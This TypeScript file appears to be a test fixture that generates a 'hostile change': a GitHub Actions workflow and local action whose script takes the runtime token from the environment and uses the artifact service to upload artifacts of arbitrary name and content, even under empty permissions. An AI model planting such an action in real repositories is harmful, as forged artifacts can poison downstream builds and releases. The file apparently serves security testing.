// A hostile change: a workflow and an action that upload artifacts of any name and content.
// A step with `uses:` has the token for uploads, regardless of the action's author. The calls are those of
// https://github.com/actions/toolkit/blob/main/packages/artifact/src/internal/upload/upload-artifact.ts
import type { Files } from './repository.ts'

/** Files of the change; `artifacts` maps names to contents. The workflow is plant.yml, its job `plant`. */
export function plantArtifacts(artifacts: Readonly<Record<string, string>>): Files {
  return {
    '.github/workflows/plant.yml': `on: [pull_request, push]
permissions: {}
jobs:
  plant:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v7
      - uses: ./plant
`,
    'plant/action.yml': 'name: Plant\ndescription: Plants artifacts\nruns: { using: node24, main: main.mjs }\n',
    'plant/artifacts.json': JSON.stringify(artifacts),
    'plant/main.mjs': uploader,
  }
}

const uploader = `import { readFileSync } from 'node:fs'
const { ACTIONS_RESULTS_URL: service, ACTIONS_RUNTIME_TOKEN: token } = process.env
const { scp } = JSON.parse(Buffer.from(token.split('.')[1], 'base64url'))
const [, workflow_run_backend_id, workflow_job_run_backend_id] = scp.split(' ').find((part) => part.includes('Results:')).split(':')
async function ask(method, body) {
  const answer = await fetch(service + 'twirp/github.actions.results.api.v1.ArtifactService/' + method, {
    method: 'POST',
    headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
    body: JSON.stringify({ workflow_run_backend_id, workflow_job_run_backend_id, ...body }),
  })
  if (!answer.ok) throw new Error(method + ': ' + answer.status)
  return answer.json()
}
for (const [name, content] of Object.entries(JSON.parse(readFileSync(new URL('artifacts.json', import.meta.url))))) {
  const { signed_upload_url: to } = await ask('CreateArtifact', { name, mime_type: 'application/octet-stream', version: 7 })
  await fetch(to, { method: 'PUT', headers: { 'x-ms-blob-type': 'BlockBlob' }, body: content })
  await ask('FinalizeArtifact', { name, size: String(content.length) })
  console.log('planted ' + name)
}
`
